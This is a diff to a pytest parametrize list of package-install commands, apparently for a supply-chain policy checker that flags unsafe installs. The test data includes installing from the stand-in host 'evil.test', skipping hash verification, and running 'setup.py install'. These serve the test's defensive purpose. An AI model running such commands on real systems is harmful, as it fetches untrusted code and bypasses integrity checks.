@@ -132,7 +132,6 @@ def test_sources_without_a_hash_are_listed_where_policy_warns(tmp_path: Path) ->
 @pytest.mark.parametrize(
     "command",
     [
-        ["uv", "sync", "--locked"],
         ["uv", "add", "x"],
         ["uv", "run", "--frozen", "x"],
         ["uv", "pip", "install", "x", "--index-url", "https://evil.test/simple/"],
@@ -155,7 +154,7 @@ def test_sources_without_a_hash_are_listed_where_policy_warns(tmp_path: Path) ->
         ["uv", "pip", "sync", "--no-verify-hashes", "pylock.toml"],
         ["python", "setup.py", "install"],
         ["npm", "install"],
-        ["poetry", "install"],
+        ["poetry", "add", "x"],
     ],
     ids=" ".join,
 )
